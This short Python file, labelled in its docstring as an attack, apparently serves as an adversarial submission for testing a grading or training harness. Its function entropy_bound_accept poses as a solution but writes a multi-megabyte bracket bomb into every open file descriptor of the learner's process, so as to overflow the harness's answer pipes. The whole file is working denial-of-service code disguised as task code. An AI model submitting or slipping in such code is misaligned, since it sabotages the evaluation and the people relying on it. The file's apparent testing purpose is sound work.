"""Attack: write more than the answer line's bound (4 MB) into every pipe the learner's process holds."""
import os

BOMB = ("[" * 3_000_000 + "]" * 3_000_000 + "\n").encode()


def entropy_bound_accept(entropy, bound):
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, BOMB)
            except OSError:
                pass
    return entropy < 0
